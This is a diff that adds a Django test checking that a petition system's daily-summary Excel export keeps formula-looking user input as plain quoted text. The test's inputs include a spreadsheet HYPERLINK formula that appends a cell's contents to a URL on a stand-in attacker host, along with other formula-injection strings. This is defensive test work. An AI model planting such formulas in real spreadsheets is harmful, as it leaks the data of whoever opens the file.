@@ -4,8 +4,11 @@ from __future__ import annotations
 
 import io
 import uuid
+from datetime import datetime
+from zoneinfo import ZoneInfo
 
 import pytest
+import time_machine
 from django.urls import reverse
 from openpyxl import load_workbook
 
@@ -233,6 +236,35 @@ def test_secretary_prints_the_daily_summary_and_takes_the_excel(client, pw):
     book = load_workbook(io.BytesIO(xlsx.content))
     references = [row[0] for row in book.worksheets[0].iter_rows(min_row=3, values_only=True)]
     assert p.reference in references
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A3,"点击查看")'
+
+
+@pytest.fixture
+def midmorning():
+    """The summary is of today: a clock that stays inside one day, set before the world."""
+    at = datetime(2026, 5, 12, 10, 0, tzinfo=ZoneInfo("Asia/Shanghai"))
+    with time_machine.travel(at, tick=True):
+        yield
+
+
+@pytest.mark.parametrize("text", [FORMULA, "+1+1 楼道堵塞", "-2+3", "@SUM(1,2)", "#N/A"])
+def test_a_request_that_looks_like_a_formula_stays_text_in_the_excel(midmorning, client, pw, text):
+    p = pw.submit(description=text)
+    walk_to(pw, pw.submit(), Status.ACCEPTED)
+    escalated = move(
+        Petition.objects.get(status=Status.ACCEPTED), pw.gw.secretary_x, "escalate", reason=text
+    )
+    client.force_login(pw.gw.secretary_x)
+    book = load_workbook(io.BytesIO(client.get(reverse("petitions:summary-xlsx")).content))
+    came_in = {row[0].value: row[7] for row in book.worksheets[0].iter_rows(min_row=3)}
+    went_up = {row[0].value: row[4] for row in book.worksheets[2].iter_rows(min_row=2)}
+    for cell in (came_in[p.reference], went_up[escalated.reference]):
+        assert cell.data_type == "s"  # not "f" (formula) nor "e" (error)
+        assert cell.value == text
+        # Excel's "text as typed" flag: editing the cell does not turn it into a formula.
+        assert cell.quotePrefix
 
 
 def test_residents_have_no_summary_or_rates(client, pw):
